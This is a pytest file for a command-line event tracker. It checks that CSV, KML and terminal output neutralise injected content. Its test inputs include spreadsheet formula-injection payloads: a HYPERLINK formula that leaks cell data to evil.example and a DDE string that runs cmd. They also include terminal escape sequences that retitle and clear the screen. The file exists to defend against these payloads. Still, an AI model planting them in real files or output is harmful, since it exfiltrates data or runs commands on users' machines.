"""Text from records and imports stays data for the program that reads the tool's output next: a
spreadsheet opening a CSV export, an XML reader opening KML, the terminal showing what was added."""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker.cli import main
from tracker.text import FORMULA_STARTS, spreadsheet_safe, spreadsheet_text, terminal_safe

from .common import MINIMAL, TADMUR

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\tTAB", "\rCR"]


def _folder(tmp_path: Path, **fields: Any) -> Path:
    folder = tmp_path / "events"
    folder.mkdir()
    record = {**MINIMAL, "location": {**TADMUR}, **fields}
    (folder / "one.yaml").write_text(yaml.safe_dump(record, allow_unicode=True), encoding="utf-8")
    return folder


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_exports_put_a_quote_before_formulas_and_leave_numbers(tmp_path: Path) -> None:
    folder = _folder(tmp_path, title=FORMULAS[0], actors=FORMULAS[1:4], notes="-12.5",
                     location={"lat": -33.5, "lon": -38.25})
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", str(folder), "-o", str(out)])
    assert result.exit_code == 0, result.output
    row = _csv(out)[0]
    assert row["title"] == "'" + FORMULAS[0]
    assert row["actors"] == "'@SUM(1+1)*cmd|' /C calc'!A0; +1+1; -2+3"
    assert (row["notes"], row["latitude"], row["longitude"]) == ("-12.5", "-33.5", "-38.25")
    raw = tmp_path / "raw.csv"
    result = CliRunner().invoke(main, ["export", str(folder), "-o", str(raw), "--raw-csv"])
    assert result.exit_code == 0, result.output
    assert _csv(raw)[0]["title"] == FORMULAS[0]


def test_a_csv_export_reads_back_as_the_same_records(tmp_path: Path) -> None:
    folder = _folder(tmp_path, title="'=already quoted", actors=["=A1", "'x"], notes="+1")
    out = tmp_path / "out.csv"
    assert CliRunner().invoke(main, ["export", str(folder), "-o", str(out)]).exit_code == 0
    back = tmp_path / "back.geojson"
    result = CliRunner().invoke(main, ["export", str(out), "-o", str(back)])
    assert result.exit_code == 0, result.output
    import json

    properties = json.loads(back.read_text(encoding="utf-8"))["features"][0]["properties"]
    assert (properties["title"], properties["actors"], properties["notes"]) == ("'=already quoted", "=A1; 'x", "+1")


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from(["'", *FORMULA_STARTS, "a", "1", ".", "e"]), max_size=8) | st.text(max_size=8))
def test_the_quote_before_formulas_is_taken_off_exactly(cell: str) -> None:
    """Law: reading a cell back gives what was written, and no written cell starts a formula."""
    written = spreadsheet_safe(cell)
    assert spreadsheet_text(written) == cell
    assert not written.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-][\d.]*\d[\d.]*(?:e[+-]?\d+)?", written)


def test_kml_with_control_characters_is_well_formed(tmp_path: Path) -> None:
    folder = _folder(tmp_path, title="Raqqa\x00 \x1b[31mred\x0b", notes="bell\x07 and \x0c form feed")
    out = tmp_path / "out.kml"
    result = CliRunner().invoke(main, ["export", str(folder), "-o", str(out)])
    assert result.exit_code == 0, result.output
    document = ET.parse(out)
    names = [element.text for element in document.iter("{http://www.opengis.net/kml/2.2}name")]
    assert names == ["Raqqa [31mred"]


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x1b[8m"


def test_tracker_add_shows_escape_sequences_as_text(tmp_path: Path) -> None:
    draft = tmp_path / "draft.yaml"
    draft.write_text(yaml.safe_dump({**MINIMAL, "title": f"Raqqa {ESCAPES}"}, allow_unicode=True), encoding="utf-8")
    result = CliRunner().invoke(main, ["add", str(draft), "--into", str(tmp_path / "events")])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output
    assert ": Raqqa \\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\x1b[8m\n" in result.output


def test_list_check_and_json_output_show_escape_sequences_as_text(tmp_path: Path) -> None:
    folder = _folder(tmp_path, id="raqqa", title=f"Raqqa {ESCAPES}", location={**TADMUR},
                     claims=[{"count": 4000, "of": f"fighters {ESCAPES}"}])
    for command in (["list", str(folder)], ["list", "--json", str(folder)], ["check", str(folder)],
                    ["check", "--json", str(folder)], ["validate", "--json", str(folder)]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code in (0, 1), result.output
        assert not any(c in result.output for c in "\x1b\x9b\x07"), (command, result.output)


def test_terminal_safe_leaves_no_control_but_newline_and_tab() -> None:
    shown = terminal_safe("".join(map(chr, range(0x00, 0xA0))) + "\u2028\u2029")
    assert [c for c in shown if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0] == ["\t", "\n"]
